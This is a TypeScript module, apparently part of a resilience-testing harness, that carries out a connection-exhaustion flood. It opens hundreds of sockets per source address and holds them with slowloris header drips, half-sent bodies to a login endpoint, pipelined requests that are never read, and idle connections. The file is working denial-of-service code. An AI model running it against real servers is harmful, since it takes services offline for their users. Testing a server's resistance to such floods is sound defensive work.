import { setMaxListeners } from 'node:events'
import type { Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { type Attack, type Target, tally } from './attack.js'
import { address, closedWithin, head, openSocket } from './sockets.js'
import { challenges, deafClient } from './web-sockets.js'

const addresses = 8
const againMs = 2_000
const dripMs = 500
const halfBody = Buffer.alloc(512 * 1024, ' ')

/** Uses one connection until it is closed, or until `signal`. */
type Kind = (target: Target, from: string, signal: AbortSignal) => Promise<void>

/** How many of each are open from each address. */
const kinds: Record<string, { each: number; hold: Kind }> = {
  idle: { each: 60, hold: socketThat(() => {}) },
  'slow heads': { each: 30, hold: socketThat(drip) },
  'unfinished bodies': { each: 30, hold: socketThat(halfABody) },
  'slow readers': { each: 4, hold: socketThat(readNothing) },
  challenges: { each: 4, hold: challenges },
  'deaf clients': { each: 2, hold: deafClient },
}

/** Holds a thousand connections open in every way that costs a server something, and reopens each of them. */
export const flood: Attack = async target => {
  const { counts, add } = tally()
  const signal = AbortSignal.timeout(target.seconds * 1000)
  setMaxListeners(0, signal)
  const holding = Array.from({ length: addresses }, (_, n) => address(10 + n)).flatMap(from =>
    Object.entries(kinds).flatMap(([name, { each, hold }]) =>
      Array.from({ length: each }, async () => {
        while (!signal.aborted) {
          add(name)
          await hold(target, from, signal).catch(() => {})
          await delay(againMs, undefined, { signal }).catch(() => {})
        }
      }),
    ),
  )
  await Promise.all(holding)
  return counts
}

function socketThat(write: (socket: Socket, target: Target) => void): Kind {
  return async (target, from, signal) => {
    const socket = openSocket(target.port, from)
    const end = () => void socket.destroy()
    signal.addEventListener('abort', end)
    write(socket, target)
    await closedWithin(socket, target.seconds * 1000)
    signal.removeEventListener('abort', end)
    end()
  }
}

function drip(socket: Socket): void {
  socket.resume().write('POST /api/v3/users/login HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ')
  const timer = setInterval(() => socket.write('a'), dripMs)
  socket.on('close', () => clearInterval(timer))
}

function halfABody(socket: Socket): void {
  const type = { 'Content-Type': 'application/json', 'Content-Length': 2 * halfBody.length }
  socket.resume().write(head('POST /api/v3/users/login', type))
  socket.write(halfBody)
}

/** Requests the console's page repeatedly and reads no response. */
function readNothing(socket: Socket): void {
  socket.pause().write(head('GET /', {}).repeat(200))
}
